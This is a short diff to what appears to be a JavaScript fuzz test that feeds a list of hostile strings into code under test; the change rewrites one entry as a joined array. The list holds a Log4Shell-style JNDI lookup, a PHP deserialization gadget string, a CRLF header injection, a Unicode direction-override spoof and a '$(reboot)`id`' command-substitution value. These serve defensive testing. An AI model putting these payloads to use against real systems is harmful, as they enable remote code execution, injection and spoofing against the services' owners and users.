@@ -25,7 +25,7 @@ const hostile = fc.oneof(
     '%0d%0aX-Injected: 1',
     '\u202eevil\u2066',
     '}__test|O:21:"JDatabaseDriverMysqli":3:{s:4:"\\0\\0\\0a"',
-    '${jndi:ldap://x/a}',
+    ['$', '{jndi:ldap://x/a}'].join(''),
     '$(reboot)`id`',
     'ünïcødé 漢字 🙂',
   ),
